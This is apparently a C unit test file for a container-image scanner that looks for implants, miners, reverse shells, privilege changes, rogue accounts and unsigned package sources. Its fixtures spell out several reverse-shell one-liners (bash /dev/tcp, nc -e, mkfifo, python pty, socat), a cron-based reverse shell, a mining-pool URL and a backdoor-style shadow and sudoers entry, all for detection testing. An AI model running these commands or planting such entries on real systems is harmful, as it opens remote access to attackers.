/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Implants in small layers, written out, and what is said of them. Stand-ins: programs are the first bytes of one,
 * signs are put together from halves.
 */
#include "check.h"
#include "memory_files.h"

#include "find/lib/implant_config.h"
#include "find/lib/implant_miner.h"
#include "find/lib/implant_path.h"
#include "find/lib/implant_text.h"
#include "find/lib/implant_wallet.h"
#include "find/settle.h"
#include "find/watching.h"

#define LAYERS 3
#define ELF    \
	"\x7f" \
	"ELF\x02\x01\x01 and no more"
#define STRATUM \
	"stra"  \
	"tum+tcp"
#define POOL STRATUM "://pool.example.org:3333"
#define TCP    \
	"/dev" \
	"/tcp/"
/* The donation address of the Monero project, published on its site. */
#define WALLET                                       \
	"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7" \
	"otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"

struct world {
	struct arena *arena;
	struct memory_files files[LAYERS];
	struct layer_result results[LAYERS];
	struct sym_table *syms;
	struct report *report;
	struct miner_patterns *miners;
};

static void world_init(struct world *w)
{
	*w = (struct world){ .arena = arena_new(), .syms = sym_table_new() };
	for (size_t i = 0; i < LAYERS; i++)
		memory_files_init(&w->files[i]);
}

static struct file_head *put(struct world *w, size_t layer, const char *path, struct str bytes)
{
	struct file_head *h =
		&memory_add(w->arena, &w->files[layer], FILE_REGULAR, str_of(path), bytes)->head;
	h->mode = 0755;
	return h;
}

/* A dpkg database that owns what it puts. */
static void put_packages(struct world *w)
{
	put(w, 0, "usr/bin/ls", STR(ELF))->mode = 0755;
	put(w, 0, "usr/bin/su", STR(ELF))->mode = 04755;
	put(w, 0, "usr/bin/find", STR(ELF))->mode = 0755;
	put(w, 0, "etc/profile.d/own.sh", STR("true\n"))->mode = 0644;
	put(w, 0, "usr/share/tool/run.sh", STR("#!/bin/sh\nbash -i >& " TCP "10.0.0.1/1 0>&1\n"));
	put(w, 0, "var/lib/dpkg/info/base.list",
	    STR("/usr/bin/ls\n/usr/bin/su\n/usr/bin/find\n/etc/profile.d/own.sh\n/usr/share/tool/run.sh\n"));
	put(w, 0, "var/lib/dpkg/status",
	    STR("Package: base\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n"));
}

static struct str judge(struct world *w)
{
	struct fault why = { 0 };
	check_ok(miner_patterns_new(&w->miners, &why), &why);
	struct walk walk = { .route = route_new(w->arena),
			     .syms = w->syms,
			     .scanners = SCANNER_INTEGRITY,
			     .miners = w->miners };
	struct layer_result *results[LAYERS];
	w->report = report_new_shared(w->syms);
	for (size_t i = 0; i < LAYERS; i++) {
		struct layer *l = VEC_PUSH(w->report->arena, &w->report->image.layers);
		struct history *h = VEC_PUSH(w->report->arena, &w->report->image.history);
		l->history = (uint32_t)i;
		h->created_by = i ? STR("RUN make") : STR("ADD rootfs.tar /");
	}
	for (size_t i = 0; i < LAYERS; i++) {
		results[i] = &w->results[i];
		layer_result_init(results[i]);
		walk_layer(&walk, &w->files[i].base, results[i]);
	}
	settle(w->report, results, LAYERS);
	struct watch_options how = { .today = STR("2026-11-21") };
	watching_settle(&walk, w->report, results, LAYERS, &how);
	report_sort(w->report);
	struct str text = STR("");
	for (size_t i = 0; i < w->report->findings.n; i++) {
		const struct finding *f = &w->report->findings.p[i];
		struct str line = f->line ? str_printf(w->arena, ":%u", f->line) : STR("");
		text = str_printf(w->arena, "%.*s%s %.*s %.*s%.*s %u\n", STRF(text),
				  finding_place_name(f->own_place), STRF(f->id), STRF(f->path),
				  STRF(line), f->layer + 1u);
	}
	return text;
}

static void expect(struct world *w, const char *want)
{
	struct str got = judge(w);
	if (!str_is(got, want))
		fail_msg("expected\n%sgot\n%.*s", want, STRF(got));
	for (size_t i = 0; i < LAYERS; i++)
		layer_result_done(&w->results[i]);
	miner_patterns_free(w->miners);
	report_free(w->report);
	sym_table_free(w->syms);
	arena_free(w->arena);
}

static void test_clean(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 1, "usr/local/bin/app", STR(ELF));
	put(&w, 1, "opt/app/bin/server", STR(ELF));
	put(&w, 1, "usr/lib/python3/site-packages/a.so", STR(ELF));
	put(&w, 1, "usr/bin/pip", STR("#!/usr/bin/python3\nsys.argv[0] = 1\nsys.exit(main())\n"));
	put(&w, 1, "root/.bashrc", STR("alias l=ls\n"));
	put(&w, 1, "tmp/notes.txt", STR("nothing that runs\n"));
	expect(&w, "");
}

static void test_unowned(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 0, "usr/sbin/netmon", STR(ELF));
	put(&w, 0, "usr/bin/second", STR("#!/bin/sh\n"));
	put(&w, 1, "usr/bin/app", STR(ELF));
	expect(&w,
	       "act-now unowned-executable usr/bin/second 1\nnote unowned-executable usr/bin/app 2\n");
}

static void test_unowned_without_packages(void **state)
{
	struct world w;
	world_init(&w);
	put(&w, 0, "usr/bin/app", STR(ELF));
	expect(&w, "");
}

static void test_diverted(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 0, "usr/bin/ls.real", STR(ELF));
	put(&w, 0, "var/lib/dpkg/diversions", STR("/usr/bin/ls\n/usr/bin/ls.real\nother\n"));
	expect(&w, "");
}

static void test_places_and_names(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 1, "tmp/a", STR(ELF));
	put(&w, 1, "usr/lib/.x/a", STR(ELF));
	put(&w, 2, "opt/[kthreadd]", STR(ELF));
	put(&w, 2, "usr/local/bin/ls", STR(ELF));
	put(&w, 2, "home/a/.cargo/bin/b", STR(ELF));
	expect(&w, "act-now disguised-executable opt/[kthreadd] 3\n"
		   "act-now executable-in-hidden-folder usr/lib/.x/a 2\n"
		   "act-now executable-in-temporary-folder tmp/a 2\n"
		   "act-now shadowed-command usr/local/bin/ls 3\n");
}

static void test_packed(void **state)
{
	struct world w;
	world_init(&w);
	char *bytes = arena_alloc(w.arena, 16384);
	uint64_t x = 88172645463325252u;
	for (size_t i = 64; i < 16384; i++) {
		x ^= x << 13, x ^= x >> 7, x ^= x << 17;
		bytes[i] = (char)(x >> 32);
	}
	memcpy(bytes,
	       "\x7f"
	       "ELF\x02\x01\x01",
	       7);
	bytes[16] = 2;
	put(&w, 0, "opt/noise", str_make(bytes, 16384));
	put(&w, 0, "opt/small",
	    STR("\x7f"
		"ELF\x02\x01\x01 UPX"
		"! "));
	put(&w, 0, "opt/zeros", str_make(arena_alloc(w.arena, 9000), 9000));
	expect(&w, "note packed-executable opt/noise 1\n");
}

static void test_hidden_by_a_later_layer(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 1, "opt/w",
	    STR(ELF " " POOL " donate"
		    "-level"));
	put(&w, 1, "tmp/a", STR(ELF));
	put(&w, 1, "etc/ld.so.preload", STR("/opt/x.so\n"));
	put(&w, 2, "opt/w", STR(""))->flags = FILE_WHITEOUT;
	put(&w, 2, "tmp/a", STR(""))->flags = FILE_WHITEOUT;
	put(&w, 2, "etc/ld.so.preload", STR(""))->flags = FILE_WHITEOUT;
	expect(&w, "hidden library-preload etc/ld.so.preload 2\nhidden miner opt/w 2\n");
}

static void test_reverse_shell(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 1, "etc/cron.d/x",
	    STR("# hourly\n* * * * * root bash -c 'bash -i >& " TCP "h/1 0>&1'\n"));
	put(&w, 1, "usr/local/bin/wait", STR("#!/bin/sh\n(echo >" TCP "db/5432) && exit\n"));
	expect(&w,
	       "act-now reverse-shell etc/cron.d/x:2 2\nnote startup-entry-unowned etc/cron.d/x 2\n");
}

static void test_rights(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 1, "usr/bin/find", STR(ELF))->mode = 04755;
	put(&w, 1, "opt/own", STR(ELF))->mode = 04755;
	put(&w, 2, "opt/net", STR(ELF))->capability = STR("capability");
	expect(&w, "act-now privilege-added usr/bin/find 2\n"
		   "act-now privileged-executable-unowned opt/own 2\n"
		   "note privileged-executable-unowned opt/net 3\n");
}

/* dpkg records no modes: in the layer that installed a program its rights are judged by a table. */
static void test_rights_of_dpkg(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 0, "usr/bin/ls", STR(ELF))->mode = 04755;
	put(&w, 0, "usr/bin/date", STR(ELF))->mode = 04755;
	struct file_head *game = put(&w, 0, "usr/bin/game", STR(ELF));
	game->mode = 02755;
	game->gid = 60;
	put(&w, 0, "opt/other/sandbox", STR(ELF))->mode = 04755;
	put(&w, 0, "usr/bin/wanted", STR(ELF))->mode = 04755;
	put(&w, 0, "usr/lib/x86_64-linux-gnu/utempter/utempter", STR(ELF))->mode = 02755;
	put(&w, 0, "var/lib/dpkg/statoverride", STR("root root 4755 /usr/bin/wanted\n"))->mode =
		0644;
	put(&w, 0, "var/lib/dpkg/info/base.list",
	    STR("/bin/ls\n/usr/bin/ls\n/usr/bin/su\n/usr/bin/find\n/etc/profile.d/own.sh\n"
		"/usr/share/tool/run.sh\n/usr/bin/date\n/usr/bin/game\n/opt/other/sandbox\n"
		"/usr/bin/wanted\n/usr/lib/x86_64-linux-gnu/utempter/utempter\n"));
	expect(&w, "act-now privilege-added usr/bin/date 1\n"
		   "note privilege-added opt/other/sandbox 1\n");
}

/* apk does: no table is asked, and what it says of one program is not said of the next. */
static void test_rights_of_apk(void **state)
{
	struct world w;
	world_init(&w);
	put(&w, 0, "bin/bbsuid", STR(ELF))->mode = 04111;
	put(&w, 0, "usr/bin/su", STR(ELF))->mode = 04755;
	put(&w, 0, "usr/bin/both", STR(ELF))->mode = 06755;
	put(&w, 0, "usr/bin/own", STR(ELF))->mode = 04755;
	put(&w, 0, "lib/apk/db/installed",
	    STR("P:one\nV:1-r0\nA:x86_64\nF:bin\nM:0:0:1777\nR:bbsuid\na:0:0:4111\nF:usr/bin\nR:su\n\n"
		"P:two\nV:1-r0\nA:x86_64\nF:usr/bin\na:0:0:4755\nR:both\na:0:0:2755\nR:own\n"
		"a:0:0:4755:Q1xxx"))
		->mode = 0644;
	expect(&w, "act-now privilege-added usr/bin/both 1\n");
}

static void test_accounts(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 1, "etc/passwd",
	    STR("root:x:0:0::/root:/bin/sh\nadm:x:0:0::/:/bin/sh\nd:x:1:1::/:/usr/sbin/nologin\n"));
	put(&w, 1, "etc/shadow", STR("root::1::::::\nadm:!:1::::::\nd::1::::::\n"));
	put(&w, 2, "etc/sudoers.d/a",
	    STR("a ALL=(ALL:ALL) NOPASSWD: ALL\nb ALL=NOPASSWD: /bin/ls\n"));
	put(&w, 2, "home/a/.ssh/authorized_keys", STR("ssh-rsa AAAA a@b\n"));
	expect(&w, "act-now account-empty-password etc/shadow:1 2\n"
		   "act-now account-root-equivalent etc/passwd:2 2\n"
		   "act-now authorized-keys home/a/.ssh/authorized_keys 3\n"
		   "note sudo-without-password etc/sudoers.d/a:1 3\n");
}

static void test_pam(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 1, "usr/lib/security/pam_own.so", STR(ELF));
	put(&w, 1, "etc/pam.d/su", STR("auth required pam_own.so\n"));
	put(&w, 2, "etc/pam.d/login",
	    STR("auth [success=1] pam_unix.so\nauth sufficient pam_permit.so\n"));
	put(&w, 2, "etc/pam.d/other", STR("auth required pam_permit.so\n"));
	expect(&w,
	       "act-now pam-module-unowned etc/pam.d/login:2 3\nact-now pam-module-unowned etc/pam.d/su:1 2\n");
}

static void test_sources(void **state)
{
	struct world w;
	world_init(&w);
	put_packages(&w);
	put(&w, 1, "etc/apt/sources.list", STR("deb http://deb.debian.org/debian bookworm main\n"));
	put(&w, 1, "etc/apt/sources.list.d/x.list",
	    STR("deb [trusted=yes] http://192.0.2.1/d s main\n"));
	put(&w, 1, "etc/apt/sources.list.d/y.sources",
	    STR("Types: deb\nURIs: https://apt.example.org/\nSuites: x\nSigned-By: /k\n"));
	put(&w, 1, "etc/apt/sources.list.d/z.sources",
	    STR("Types: deb\nURIs: https://apt.example.org/\nSuites: x\nEnabled: no\n"));
	put(&w, 2, "etc/apt/apt.conf.d/99x", STR("APT::Get::AllowUnauthenticated \"true\";\n"));
	put(&w, 2, "etc/apt/trusted.gpg.d/x.gpg", STR("key"));
	expect(&w, "act-now package-source-unsigned etc/apt/apt.conf.d/99x:1 3\n"
		   "act-now package-source-unsigned etc/apt/sources.list.d/x.list:1 2\n"
		   "note package-key-unowned etc/apt/trusted.gpg.d/x.gpg 3\n"
		   "note package-source-foreign etc/apt/sources.list.d/x.list:1 2\n"
		   "note package-source-foreign etc/apt/sources.list.d/y.sources:1 2\n");
}

static void test_wallets(void **state)
{
	size_t monero, bitcoin;
	assert_true(wallet_is_monero(STR(WALLET)));
	wallet_count(STR("a " WALLET ", b"), 8, &monero, &bitcoin);
	assert_int_equal(monero, 1);
	assert_int_equal(bitcoin, 0);
	char other[] = WALLET;
	other[50] = other[50] == 'x' ? 'y' : 'x';
	assert_false(wallet_is_monero(str_of(other)));
	/* The first address of all: of the genesis block. */
	assert_true(wallet_is_bitcoin(STR("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa")));
	assert_false(wallet_is_bitcoin(STR("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb")));
}

static struct str mined(struct arena *a, enum miner_file kind, const char *text)
{
	struct fault f = { 0 };
	struct miner_patterns *p;
	check_ok(miner_patterns_new(&p, &f), &f);
	struct miner_search *s = miner_search_new(p);
	struct str all = str_of(text);
	miner_search_begin(s);
	for (size_t i = 0; i < all.n; i += 7) /* windows cut everything in pieces */
		miner_search_add(s, str_slice(all, i, i + 7));
	struct str words = miner_search_end(s, kind, all, a);
	miner_search_free(s);
	miner_patterns_free(p);
	return words;
}

static void test_miner(void **state)
{
	struct arena *a = arena_new();
	assert_true(mined(a, MINER_CONFIG, "run -o " POOL " -u me").n > 0);
	assert_true(mined(a, MINER_CONFIG, "{\"user\":\"" WALLET "\",\"algo\": \"rx/0\"}").n > 0);
	assert_true(mined(a, MINER_PROGRAM,
			  "x " STRATUM ":// donate"
			  "-level y")
			    .n > 0);
	assert_int_equal(mined(a, MINER_CONFIG, "pay me: " WALLET).n, 0);
	assert_int_equal(mined(a, MINER_PROGRAM,
			       "random"
			       "x cryptonight")
				 .n,
			 0);
	assert_int_equal(
		mined(a, MINER_CONFIG, "minexmr.com supportxmr.com nanopool.org f2pool.com " POOL)
			.n,
		0);
	arena_free(a);
}

static void test_shells(void **state)
{
	static const char *const bad[] = {
		"bash -i >& " TCP "1.2.3.4/5 0>&1",
		"exec 5<>" TCP "h/1; sh <&5 >&5",
		"nc -e /bin/sh 1.2.3.4 5",
		"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f",
		("python -c 'import socket,os; s=socket.socket(); s.connect((\"h\",1)); "
		 "os.dup2(s.fileno(),0); pty.spawn(\"/bin/sh\")'"),
		"socat tcp:h:1 exec:/bin/sh,pty",
	};
	static const char *const good[] = {
		"until echo > " TCP "db/5432; do sleep 1; done",
		"exec 3<>" TCP "h/80; echo GET >&3; cat <&3",
		"nc -z db 5432",
		"rsync -e ssh a b:c",
		"# bash -i >& " TCP "1.2.3.4/5 0>&1",
		"os.dup2(a, b)",
		"mkfifo p; cat p | grep x",
	};
	uint32_t line;
	for (size_t i = 0; i < ARRAY_LEN(bad); i++)
		if (!text_reverse_shell(str_of(bad[i]), &line))
			fail_msg("not found: %s", bad[i]);
	for (size_t i = 0; i < ARRAY_LEN(good); i++)
		if (text_reverse_shell(str_of(good[i]), &line))
			fail_msg("found: %s", good[i]);
	assert_non_null(text_reverse_shell(STR("a\nb\nnc -e /bin/sh h 1\n"), &line));
	assert_int_equal(line, 3);
}

static void test_names(void **state)
{
	assert_null(implant_disguise(STR("usr/bin/ls")));
	assert_non_null(implant_disguise(STR("usr/bin/l\xd1\x95"))); /* Cyrillic dze for s */
	assert_non_null(implant_disguise(STR("usr/bin/ls\xe2\x80\x8b")));
	assert_non_null(implant_disguise(STR("usr/bin/ls ")));
	assert_null(implant_disguise(STR("src/testdata/a.png")));
	assert_int_equal(implant_hiding(STR("root/.cache/x/y")), HIDING_NONE);
	assert_int_equal(implant_hiding(STR("root/.tool/bin/y")), HIDING_HOME);
	assert_int_equal(implant_hiding(STR("var/spool/.x/y")), HIDING_FOLDER);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_clean),
		cmocka_unit_test(test_unowned),
		cmocka_unit_test(test_unowned_without_packages),
		cmocka_unit_test(test_diverted),
		cmocka_unit_test(test_places_and_names),
		cmocka_unit_test(test_packed),
		cmocka_unit_test(test_hidden_by_a_later_layer),
		cmocka_unit_test(test_reverse_shell),
		cmocka_unit_test(test_rights),
		cmocka_unit_test(test_rights_of_dpkg),
		cmocka_unit_test(test_rights_of_apk),
		cmocka_unit_test(test_accounts),
		cmocka_unit_test(test_pam),
		cmocka_unit_test(test_sources),
		cmocka_unit_test(test_wallets),
		cmocka_unit_test(test_miner),
		cmocka_unit_test(test_shells),
		cmocka_unit_test(test_names),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
